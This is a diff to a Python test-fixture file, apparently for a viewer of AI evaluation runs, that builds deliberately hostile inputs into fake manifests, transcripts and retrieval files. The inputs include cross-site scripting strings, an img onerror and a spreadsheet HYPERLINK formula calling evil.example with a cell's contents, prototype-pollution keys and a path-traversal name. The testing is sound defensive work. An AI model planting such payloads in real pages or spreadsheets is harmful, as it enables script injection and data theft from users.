@@ -14,14 +14,26 @@ browser_test = pytest.mark.browser
 MARKUP = (
     "</script><script>pwned=1;alert(1)</script><!--<script>--><img src=http://evil.example/ onerror=alert(1)>"
     '<svg onload=alert(1)><a href="javascript:alert(1)">x</a></style><style>*{display:none}</style></textarea></title>'
-    '"><b onclick=alert(1) style=display:none>\' &lt;i&gt; &#x202e; &amp; <!-- ]]> {{ 7*7 }} {% raw %} ${7*7} `7` %s %25 %zz ~ # / ? & + ;'
+    "\"><b onclick=alert(1) style=display:none>' &lt;i&gt; &#x202e; &amp; <!-- ]]> {{ 7*7 }} {% raw %} ${7*7} `7` %s %25 %zz ~ # / ? & + ;"
 )
 SIGNS = "\u202e\u2066\u2069\u200b\x00\x07\x1b[31m\x9b2J\x85\u2028\u2029\ud800 \udc00\ufeff\ufffe😈"
 EVIL = MARKUP + SIGNS
 WHOLE = EVIL.translate({0xD800: None, 0xDC00: None})  # run.json may not hold half characters
 FORMULA = '=HYPERLINK("http://evil.example/"&A1)'
 LONG = "W" * 10_000
-NAMES = ["__proto__", "constructor", "toString", "hasOwnProperty", "%", "~", "a~b%7Ec", "#/verdicts?x=1&y=2", " ", "é\u0301", "C-1\nC-2"]
+NAMES = [
+    "__proto__",
+    "constructor",
+    "toString",
+    "hasOwnProperty",
+    "%",
+    "~",
+    "a~b%7Ec",
+    "#/verdicts?x=1&y=2",
+    " ",
+    "é\u0301",
+    "C-1\nC-2",
+]
 TASK = "%2F~#?&=+ </script><script>pwned=1</script>\u202e\x1b[2J😈"  # a slash path that a folder can be called
 
 
@@ -42,7 +54,13 @@ def hostile_lab(folder, run_id):
         "kind": "lab",
         "run_id": run_id,
         "identity": WHOLE,
-        "suite": {"name": WHOLE, "version": WHOLE, "sha256": WHOLE, "files": {WHOLE: WHOLE, "__proto__": WHOLE}, **extras(WHOLE)},
+        "suite": {
+            "name": WHOLE,
+            "version": WHOLE,
+            "sha256": WHOLE,
+            "files": {WHOLE: WHOLE, "__proto__": WHOLE},
+            **extras(WHOLE),
+        },
         "system": {"name": WHOLE, "role": WHOLE, "agent": WHOLE, **extras(WHOLE)},
         "protocol": {"id": WHOLE, "profile": WHOLE, "judges": [WHOLE, "__proto__"], "view": WHOLE, **extras(WHOLE)},
         "environment": extras(WHOLE),
@@ -82,9 +100,15 @@ def hostile_trial(task):
         "documents_read": [EVIL, "__proto__"],
         "tool_calls": {EVIL: 1, "__proto__": 2, "constructor": 3},
         "context": [{EVIL: 10, "__proto__": 5, "constructor": 7}, {"system": 10**15}],
-        "output": {"a <b onclick=x>\u202e.md": EVIL, "__proto__": EVIL} if task.startswith("area/") else {EVIL: EVIL, "../../x": EVIL},
+        "output": {"a <b onclick=x>\u202e.md": EVIL, "__proto__": EVIL}
+        if task.startswith("area/")
+        else {EVIL: EVIL, "../../x": EVIL},
         "output_sha256": EVIL,
-        "grounding": {"claims": 7, "unsupported": [EVIL, {"kind": EVIL, "text": EVIL, "where": EVIL}, {EVIL: EVIL}, None, 7], **extras()},
+        "grounding": {
+            "claims": 7,
+            "unsupported": [EVIL, {"kind": EVIL, "text": EVIL, "where": EVIL}, {EVIL: EVIL}, None, 7],
+            **extras(),
+        },
         "flags": [{"flag": EVIL, "where": EVIL, "text": EVIL}, {"__proto__": EVIL}, {EVIL: EVIL}],
     }
 
@@ -141,7 +165,17 @@ def hostile_transcript():
         {"role": "system", "text": EVIL},
         {"role": EVIL, "turn": EVIL, "text": EVIL, EVIL: EVIL},
         {"role": "__proto__", "content": [{"type": "text", "text": EVIL}]},
-        {"role": "assistant", "text": EVIL, "tool_calls": [{"name": EVIL, "args": EVIL}, {"function": {"name": EVIL, "arguments": json.dumps({EVIL: EVIL})}}, None, 7, EVIL]},
+        {
+            "role": "assistant",
+            "text": EVIL,
+            "tool_calls": [
+                {"name": EVIL, "args": EVIL},
+                {"function": {"name": EVIL, "arguments": json.dumps({EVIL: EVIL})}},
+                None,
+                7,
+                EVIL,
+            ],
+        },
         {"role": "assistant", "text": {"a": EVIL}, "tool_calls": EVIL},
         {"role": "tool", "name": EVIL, "result": EVIL},
         {"role": "tool", "name": {"x": EVIL}, "result": {EVIL: [EVIL]}, "error": True},
@@ -155,7 +189,17 @@ def hostile_transcript():
     ]
     yield from (json.dumps(line).encode() for line in lines)
     yield EVIL.replace("\n", " ").encode("utf-8", "surrogatepass")
-    yield from (b"null", b"[]", b"7", b'"text"', b"\xff\xfe", b"[" * 50_000, b'{"a": NaN}', b'{"role": "user", "text": "' + b"x" * 1_000_000 + b'"}', b'{"torn')
+    yield from (
+        b"null",
+        b"[]",
+        b"7",
+        b'"text"',
+        b"\xff\xfe",
+        b"[" * 50_000,
+        b'{"a": NaN}',
+        b'{"role": "user", "text": "' + b"x" * 1_000_000 + b'"}',
+        b'{"torn',
+    )
 
 
 def hostile_retrieval(folder, run_id, system=WHOLE):
@@ -193,7 +237,9 @@ def hostile_retrieval(folder, run_id, system=WHOLE):
     }
     run = write_run(folder, manifest, units)
     (run / "artifacts").mkdir(exist_ok=True)
-    documents = [{"_id": name, "title": EVIL, "text": f"{EVIL} {LONG}"} for name in (EVIL, "__proto__", "constructor", "d3")]
+    documents = [
+        {"_id": name, "title": EVIL, "text": f"{EVIL} {LONG}"} for name in (EVIL, "__proto__", "constructor", "d3")
+    ]
     with gzip.open(run / "artifacts" / "texts.jsonl.gz", "wt") as stream:
         stream.writelines(json.dumps(document) + "\n" for document in documents)
     return run
